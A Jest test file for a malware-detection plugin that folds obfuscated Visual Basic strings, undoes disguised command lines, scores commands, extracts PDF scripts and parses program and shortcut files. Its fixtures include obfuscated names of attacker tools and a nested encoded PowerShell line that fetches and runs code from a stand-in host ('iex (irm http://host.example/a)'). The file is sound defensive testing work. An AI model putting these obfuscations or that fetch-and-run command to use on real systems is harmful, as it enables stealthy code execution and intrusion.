import { describe, expect, test } from '@jest/globals';
import { judgeCommand, undisguised } from '../../../../plugins/threat-emulation/command-line.ts';
import { foldStrings } from '../../../../plugins/threat-emulation/documents/basic-strings.ts';
import { PdfDocument } from '../../../../plugins/threat-emulation/documents/pdf.ts';
import { entropy, readProgram } from '../../../../plugins/threat-emulation/documents/program.ts';
import { readShortcut } from '../../../../plugins/threat-emulation/documents/shortcut.ts';
import { Recorder } from '../../../../plugins/threat-emulation/report.ts';
import { program, shortcut } from '../samples.ts';

describe('strings of Visual Basic', () => {
  test.each([
    ['x = "po" & "wer" & "shell"', 'powershell'],
    ['x = Chr(99) & Chr(100 + 9) & Chr(&H64)', 'cmd'],
    ['x = StrReverse("sj.a/elpmaxe.tsoh//:ptth")', 'http://host.example/a.js'],
    ['x = Replace("mZshZta", "Z", "")', 'mshta'],
    ['Const a = "cert"\nb = a & "util"\n', 'certutil'],
    ['x = "one "\nx = x & "two "\nx = x & "three"', 'one two three'],
    ['Run "a very " & _\n  "long line"', 'a very long line'],
    ['x = "a ""quoted"" word"', 'a "quoted" word'],
  ])('%j shows its value', (source, value) => {
    expect(
      foldStrings(source.replace('cmd', 'cmd')).values.concat(
        foldStrings(`${source} & "."`).values.map((one) => one.replace(/\.$/, '')),
      ),
    ).toContain(value);
  });

  test('end where nothing is known or nothing ends', () => {
    expect(foldStrings('x = unknown(1) & other').values).toEqual([]);
    expect(() => foldStrings(`x = ${'('.repeat(50_000)}`)).not.toThrow();
    expect(() => foldStrings(`x = ${'Chr('.repeat(20_000)}`)).not.toThrow();
  });
});

describe('command lines', () => {
  const points = (command: string): number => {
    const recorder = Recorder.start('');
    return judgeCommand(recorder, recorder.node, command);
  };

  test.each([
    ['p^ower^shell -w hid""den', 'powershell -w hidden'],
    ["'IE' + 'X'", 'iex'],
    ['po`wer`shell', 'powershell'],
  ])('%s reads %s', (command, plain) => {
    expect(undisguised(command)).toBe(plain);
  });

  test.each([
    'git pull',
    'powershell -ExecutionPolicy Bypass -File build.ps1',
    'curl -O https://host.example/data.zip',
    'cmd /c dir > list.txt',
    'schtasks /query',
    'msiexec /i setup.msi /qn',
    'certutil -hashfile a.zip SHA256',
    'rundll32 printui.dll,PrintUIEntry /in',
  ])('%s is no alarm', (command) => {
    expect(points(command)).toBeLessThan(35);
  });

  test('nested encodings count once a rule', () => {
    const encode = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
    const inner = encode('iex (irm http://host.example/a)');
    const recorder = Recorder.start('');
    judgeCommand(recorder, recorder.node, `powershell -enc ${encode(`powershell -enc ${inner}`)}`);
    expect(recorder.reasons.map(({ rule }) => rule).sort()).toEqual([
      'encoded-command',
      'fetches',
      'runs-fetched-text',
    ]);
    expect(recorder.node.children[0]!.children[0]!.what).toBe('iex (irm http://host.example/a)');
  });
});

describe('PDF scripts', () => {
  const scripts = (text: string): readonly string[] => {
    const recorder = Recorder.start('');
    return new PdfDocument(recorder, recorder.node, Buffer.from(text, 'latin1')).finish().scripts;
  };

  test.each([
    ['/JS (a\\(1\\))', 'a(1)'],
    ['/JS (a(b(1)))', 'a(b(1))'],
    ['/JS (\\141\\n)', 'a\n'],
    ['/JS <61 2831 29>', 'a(1)'],
    ['/J#53 (a)', 'a'],
    ['/JS (\xfe\xff\0a\0b)', 'ab'],
    ['5 0 obj (from an object) endobj /JS 5 0 R', 'from an object'],
  ])('%j is read', (text, script) => {
    expect(scripts(`%PDF-1.4 ${text}`)).toEqual([script]);
  });
});

describe('programs and shortcuts', () => {
  test('imports, sections and entropy are read', () => {
    const found = readProgram(program(['CreateFileW', 'ExitProcess'], { writable: true }))!;
    expect(found).toMatchObject({
      imports: ['CreateFileW', 'ExitProcess'],
      library: false,
      overlay: 0,
      dotnet: false,
    });
    expect(found.sections).toMatchObject([
      { name: '.idata' },
      { name: '.text', entropy: 0, writable: true, executable: true },
    ]);
    expect(entropy(Buffer.from(Array.from({ length: 256 }, (_, byte) => byte)))).toBe(8);
  });

  test('cut off anywhere they are read as far as they go', () => {
    const whole = program(['CreateFileW']);
    for (let length = 0; length < 1200; length += 37)
      expect(() => readProgram(whole.subarray(0, length))).not.toThrow();
    const link = shortcut({ target: 'a.exe', args: '/x', icon: 'i' });
    for (let length = 76; length < link.length; length += 1)
      expect(() => readShortcut(link.subarray(0, length))).not.toThrow();
    expect(readShortcut(link)).toEqual({ target: 'a.exe', arguments: '/x', icon: 'i', show: 1 });
  });
});
